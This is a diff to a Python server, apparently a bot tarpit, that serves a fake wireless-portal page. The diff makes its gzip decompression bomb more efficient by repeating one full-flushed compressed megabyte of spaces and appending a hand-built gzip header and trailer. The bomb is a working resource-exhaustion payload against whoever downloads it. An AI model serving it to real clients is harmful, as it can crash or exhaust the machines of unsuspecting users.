@@ -3,6 +3,7 @@
 import asyncio
 import json
 import random
+import struct
 import time
 import zlib
 from collections import deque
@@ -91,7 +92,7 @@ _WIRELESS_PAGE = """<!DOCTYPE html>
 <form method="post" action="/accept"><button>Accept and connect</button></form>
 </body></html>
 """
-_GZIP = 31
+_GZIP_HEADER = bytes.fromhex("1f 8b 08 00 00 00 00 00 02 ff")
 
 
 def wireless_page(_format_name: str) -> Response:
@@ -117,10 +118,16 @@ def bomb(_format_name: str) -> Response:
 
 @cache
 def _packed_blanks() -> bytes:
-    packing = zlib.compressobj(9, zlib.DEFLATED, _GZIP)
-    megabyte = b" " * 1024 * 1024
-    parts = [packing.compress(megabyte) for _ in range(BOMB_MEGABYTES)]
-    return b"".join([*parts, packing.flush()])
+    """Gzip as RFC 1952 has it. Behind a full flush nothing refers to what was before, so that what
+    holds one megabyte holds each.
+    """
+    megabyte, checksum = b" " * 1024 * 1024, 0
+    packing = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
+    packed = packing.compress(megabyte) + packing.flush(zlib.Z_FULL_FLUSH)
+    for _ in range(BOMB_MEGABYTES):
+        checksum = zlib.crc32(megabyte, checksum)
+    trailer = struct.pack("<II", checksum, BOMB_MEGABYTES * len(megabyte))
+    return _GZIP_HEADER + packed * BOMB_MEGABYTES + packing.flush() + trailer
 
 
 class Answer(msgspec.Struct):
